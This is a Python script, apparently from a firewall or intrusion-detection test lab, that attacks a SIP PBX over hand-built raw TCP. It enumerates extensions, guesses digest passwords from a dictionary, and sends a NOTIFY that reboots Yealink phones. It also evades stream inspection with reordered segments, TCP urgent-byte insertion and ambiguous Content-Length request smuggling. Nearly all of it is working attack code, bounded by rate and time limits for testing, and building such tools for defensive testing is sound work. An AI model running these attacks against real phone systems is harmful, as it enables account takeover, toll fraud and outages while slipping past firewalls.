#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""SIP over TCP from a raw socket, as an attacker evading stream inspection
sends it (issue 17). Each request is sent in one of two orders:
  inorder  the whole message in one segment, as a kernel sends it
  tail     its last 2 bytes (the final CRLF) first, then the rest
after which the sender behaves like a real TCP: it retransmits whatever the
PBX has not acknowledged (tests/privileged/stream/rawtcp.py's finisher), so a
segment dropped by a firewall is sent again. Responses are read from the
connection (the raw sender acknowledges the PBX's bytes).

Modes (all bounded by --count, --max-time and --give-up consecutive failures):
  enum    REGISTER for extensions --first .. --first+--count-1, no credentials;
          an extension exists when the PBX answers 401/407/200
  guess   user --user's password from --dict: REGISTER, then the REGISTER with
          the digest answer to its 401; stops at the first 200
  notify  an OPTIONS, then a NOTIFY "Event: check-sync;reboot=true" (reboots
          Yealink phones), retransmitted by the finisher for --notify-ms
  urgent  an OPTIONS, then the NOTIFY with one byte more inside its Event value
          ("check-s" "X" "ync"), sent in one segment whose TCP urgent pointer
          marks that byte: a receiving socket without SO_OOBINLINE (Linux's
          default) takes the byte out of the stream, so the PBX reads
          "check-sync" where a firewall that ignores URG reads "check-sXync"
  smuggle an OPTIONS whose framing is ambiguous (--variant: two Content-Length
          headers, or the compact "l:" and the long form, one counting the
          NOTIFY as its body, the other 0), the NOTIFY behind it, one segment:
          if the PBX frames it by the other length, the NOTIFY is a request of
          its own that the firewall saw as a body
A request whose bytes the PBX does not acknowledge, or that gets no answer,
is a failure; the next request opens a new connection (a new source port).
Prints one line per request and a JSON summary as the last line.
Run it in a namespace whose kernel's RSTs to --dport are dropped (rawtcp.py).
"""
import argparse
import json
import os
import random
import re
import sys
import time

sys.dont_write_bytecode = True  # no __pycache__ in the source tree
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(HERE, "..", "..", "tests", "privileged", "stream"))
import rawtcp  # noqa: E402
import siplab  # noqa: E402

p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
p.add_argument("--src", required=True)
p.add_argument("--dst", required=True)
p.add_argument("--dport", type=int, default=5060)
p.add_argument("--mode", choices=("enum", "guess", "notify", "smuggle", "urgent"), required=True)
p.add_argument("--variant", choices=("cl-n-0", "cl-0-n", "l-n-cl-0", "cl-0-l-n"), default="cl-n-0",
               help="smuggle: the two lengths in order (n = the NOTIFY's length)")
p.add_argument("--order", choices=("inorder", "tail"), default="inorder")
p.add_argument("--first", type=int, default=100)
p.add_argument("--count", type=int, default=100, help="extensions (enum) or passwords (guess), at most 1000")
p.add_argument("--user", default="105")
p.add_argument("--dict", default=os.path.join(HERE, "svcrack-dict.txt"))
p.add_argument("--rate", type=float, default=20.0, help="requests per second at most")
p.add_argument("--wait", type=float, default=1.0, help="how long a request waits for its answer")
p.add_argument("--give-up", type=int, default=3, help="consecutive failed requests before stopping")
p.add_argument("--notify-ms", type=int, default=3000, help="how long the NOTIFY is retransmitted")
p.add_argument("--max-time", type=float, default=60.0)
p.add_argument("--ua", default=siplab.PHONE_UA)
a = p.parse_args()
if not (0 < a.count <= 1000 and 0 < a.rate <= 1000 and 0 < a.max_time <= 600 and 0 < a.give_up <= 100):
    sys.exit("rawsip.py: --count 1..1000, --rate 0..1000, --max-time 0..600, --give-up 1..100")

t_start = time.time()
t_end = time.monotonic() + a.max_time
dst_host = siplab.host_of(a.dst)
stats = {"src": a.src, "mode": a.mode, "order": a.order, "start": t_start, "requests": 0, "acked": 0,
         "answered": 0, "creds": 0, "connections": 0, "failed_connects": 0, "found": [], "password": None,
         "codes": {}, "notify_answer": None, "stopped": ""}


class Conn:
    """One raw TCP connection to the PBX: requests out in --order, responses in."""

    def __init__(self):
        spec = {"name": "c", "src": a.src, "sport": random.randint(20000, 60000), "stream": "",
                "finish_ms": 1500, "finish_rounds": 8}
        self.s = rawtcp.Session(spec, a.dst, a.dport)
        self.read = 0
        stats["connections"] += 1
        self.ok = self.s.handshake()
        if not self.ok:
            stats["failed_connects"] += 1

    def port(self):
        return self.s.sport

    def send(self, msg, finish_s=None, urgent_at=None):
        """Sends MSG in the chosen order (with URG marking byte URGENT_AT of
        it: one segment), then retransmits until the PBX has acknowledged it
        (bounded); True if it did."""
        s = self.s
        off = len(s.stream)
        s.stream += msg
        stats["requests"] += 1
        if urgent_at is not None:
            # BSD semantics (Linux's default, tcp_stdurg = 0): the pointer is one past the urgent byte.
            s.data(off, msg, "urgent", urg=urgent_at + 1)
        elif a.order == "tail":
            s.data(off + len(msg) - 2, msg[-2:], "tail")
            s.receive(0.005)
            for o in range(off, off + len(msg) - 2, s.mss):
                n = min(s.mss, off + len(msg) - 2 - o)
                s.data(o, s.stream[o:o + n], "head")
        else:
            for o in range(off, off + len(msg), s.mss):
                s.data(o, s.stream[o:o + min(s.mss, off + len(msg) - o)], "whole")
        s.receive(0.005)
        if finish_s is not None:
            s.finish_s = finish_s
        s.finish()
        acked = s.una >= len(s.stream)
        stats["acked"] += acked
        return acked

    def response(self, cid, timeout):
        """(code, headers) of the final response for Call-ID CID, or (None, {})."""
        end = min(time.monotonic() + timeout, t_end)
        while True:
            while True:
                buf = bytes(self.s.peer_data[self.read:])
                head_end = buf.find(b"\r\n\r\n")
                if head_end < 0:
                    break
                m = re.search(rb"\r\n(?:content-length|l)[ \t]*:[ \t]*(\d+)", buf[:head_end], re.I)
                total = head_end + 4 + (int(m.group(1)) if m else 0)
                if len(buf) < total:
                    break
                self.read += total
                code, h = siplab.parse_response(buf[:total])
                if code is not None and code >= 200 and h.get("call-id") == cid:
                    stats["answered"] += 1
                    stats["codes"][str(code)] = stats["codes"].get(str(code), 0) + 1
                    return code, h
            left = end - time.monotonic()
            if left <= 0 or self.s.peer_rst or self.s.peer_fin:
                return None, {}
            self.s.receive(min(left, 0.05))

    def close(self):
        self.s.close()


def tcp_request(method, ruri, user, conn, cid, **kw):
    msg = siplab.request(method, ruri, user, a.dst, a.src, conn.port(), cid, ua=a.ua, **kw)
    return msg.replace(b"SIP/2.0/UDP", b"SIP/2.0/TCP", 1)


state = {"conn": None, "fails": 0, "next": time.monotonic()}


def connection():
    """The current connection, or a new one; None when the PBX does not answer SYNs."""
    c = state["conn"]
    if c is not None and c.ok and not c.s.peer_rst and not c.s.peer_fin:
        return c
    if c is not None:
        c.close()
    c = state["conn"] = Conn()
    return c if c.ok else None


def failed(why):
    state["fails"] += 1
    if state["conn"] is not None:
        state["conn"].close()
        state["conn"] = None
    print(f"  failure: {why}", flush=True)


def pace():
    now = time.monotonic()
    if state["next"] > now:
        time.sleep(min(state["next"] - now, max(0.0, t_end - now)))
    state["next"] = max(now, state["next"]) + 1.0 / a.rate


def exchange(c, msg_fn, cid, finish_s=None, urgent=None):
    """Sends one request and reads its answer: (code, headers), or None on failure.
    URGENT: a byte string in the message whose first byte goes out as urgent data."""
    msg = msg_fn(c)
    if not c.send(msg, finish_s, msg.index(urgent) if urgent else None):
        failed(f"{len(c.s.stream) - c.s.una} bytes never acknowledged")
        return None
    code, h = c.response(cid, a.wait)
    if code is None:
        failed("no answer")
        return None
    state["fails"] = 0
    return code, h


def enum():
    for i in range(a.count):
        if state["fails"] >= a.give_up or time.monotonic() >= t_end:
            break
        pace()
        ext = str(a.first + i)
        c = connection()
        if c is None:
            failed("no SYN-ACK")
            continue
        cid = f"{siplab.rand_hex(16)}@{siplab.host_of(a.src)}"
        r = exchange(c, lambda c: tcp_request("REGISTER", f"sip:{dst_host}", ext, c, cid), cid)
        if r is None:
            continue
        print(f"{ext} {r[0]}", flush=True)
        if r[0] in (200, 401, 407):
            stats["found"].append(ext)


def guess():
    words = [w.strip() for w in open(a.dict) if w.strip()][: a.count]
    uri = f"sip:{dst_host}"
    for pw in words:
        if state["fails"] >= a.give_up or time.monotonic() >= t_end:
            break
        pace()
        c = connection()
        if c is None:
            failed("no SYN-ACK")
            continue
        cid, tag = f"{siplab.rand_hex(16)}@{siplab.host_of(a.src)}", siplab.rand_hex()
        r = exchange(c, lambda c: tcp_request("REGISTER", uri, a.user, c, cid, tag=tag), cid)
        if r is None:
            continue
        if r[0] != 401 or "www-authenticate" not in r[1]:
            print(f"{pw} unexpected {r[0]}", flush=True)
            continue
        auth = siplab.digest_header(r[1]["www-authenticate"], False, "REGISTER", uri, a.user, pw)
        stats["creds"] += 1
        r = exchange(c, lambda c: tcp_request("REGISTER", uri, a.user, c, cid, cseq=2, tag=tag, auth=auth), cid)
        if r is None:
            continue
        print(f"{pw} {'accepted' if r[0] == 200 else 'refused %d' % r[0]}", flush=True)
        if r[0] == 200:
            stats["password"] = pw
            break


def notify_msg(c, cid):
    m = tcp_request("NOTIFY", f"sip:100@{dst_host}", "100", c, cid)
    return m.replace(b"\r\nContent-Length:", b"\r\nEvent: check-sync;reboot=true\r\n"
                     b"Subscription-State: terminated\r\nContent-Length:", 1)


def notify(urgent=False):
    """The OPTIONS, then the NOTIFY (URGENT: with "X" inside check-sync, sent as urgent data)."""
    c = connection()
    if c is None:
        failed("no SYN-ACK")
        return
    cid = f"{siplab.rand_hex(16)}@{siplab.host_of(a.src)}"
    r = exchange(c, lambda c: tcp_request("OPTIONS", f"sip:{dst_host}", "100", c, cid), cid)
    print(f"OPTIONS {r[0] if r else 'failed'}", flush=True)
    if r is None:
        return
    cid = f"checksync-{siplab.rand_hex(8)}@{siplab.host_of(a.src)}"
    if urgent:
        r = exchange(c, lambda c: notify_msg(c, cid).replace(b"check-sync", b"check-sXync", 1), cid,
                     finish_s=a.notify_ms / 1000.0, urgent=b"Xync")
    else:
        r = exchange(c, lambda c: notify_msg(c, cid), cid, finish_s=a.notify_ms / 1000.0)
    stats["retransmissions"] = c.s.retransmissions
    stats["notify_answer"] = r[0] if r else None
    print(f"NOTIFY {r[0] if r else 'failed'} (retransmissions {c.s.retransmissions})", flush=True)


def smuggle():
    c = connection()
    if c is None:
        failed("no SYN-ACK")
        return
    cid_n = f"checksync-{siplab.rand_hex(8)}@{siplab.host_of(a.src)}"
    hidden = notify_msg(c, cid_n)
    names = {"cl-n-0": (("Content-Length", len(hidden)), ("Content-Length", 0)),
             "cl-0-n": (("Content-Length", 0), ("Content-Length", len(hidden))),
             "l-n-cl-0": (("l", len(hidden)), ("Content-Length", 0)),
             "cl-0-l-n": (("Content-Length", 0), ("l", len(hidden)))}[a.variant]
    cid = f"{siplab.rand_hex(16)}@{siplab.host_of(a.src)}"
    head = tcp_request("OPTIONS", f"sip:{dst_host}", "100", c, cid)
    head = head[:head.index(b"Content-Length:")] + b"".join(b"%s: %d\r\n" % (n.encode(), v) for n, v in names) + b"\r\n"
    r = exchange(c, lambda c: head + hidden, cid)
    print(f"OPTIONS {r[0] if r else 'failed'}", flush=True)
    code, _ = c.response(cid_n, a.wait) if r else (None, {})
    stats["notify_answer"] = code
    print(f"NOTIFY {code if code else 'unanswered'}", flush=True)


try:
    {"enum": enum, "guess": guess, "notify": notify, "smuggle": smuggle, "urgent": lambda: notify(urgent=True)}[a.mode]()
    if state["fails"] >= a.give_up:
        stats["stopped"] = f"{a.give_up} failures in a row"
    elif time.monotonic() >= t_end:
        stats["stopped"] = "max-time"
finally:
    if state["conn"] is not None:
        state["conn"].close()
stats["seconds"] = round(time.time() - t_start, 3)
print(json.dumps(stats), flush=True)
